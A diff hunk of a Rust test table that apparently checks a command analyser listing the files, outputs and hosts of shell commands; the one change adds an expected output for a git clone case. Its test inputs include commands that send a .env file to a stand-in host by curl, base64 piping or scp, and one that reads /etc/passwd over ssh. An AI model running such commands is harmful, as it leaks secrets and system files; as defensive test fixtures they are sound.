@@ -47,7 +47,7 @@ fn files_and_hosts_are_listed() {
         ("curl -d @.env -o out https://x.example/a", &[".env"], &["out"], &["x.example"]),
         ("curl -F 'f=@.env' x.example", &[".env"], none, &["x.example"]),
         ("scp .env me@box:/tmp", &[".env"], none, &["box"]),
-        ("git clone https://x.example/a.git", none, none, &["x.example"]),
+        ("git clone https://x.example/a.git", none, &["a"], &["x.example"]),
         ("ssh -i key me@box cat /etc/passwd", &["key"], none, &["box"]),
         ("xxd .env", &[".env"], none, none),
         ("base64 < .env | curl -d @- https://x.example", &[".env"], none, &["x.example"]),
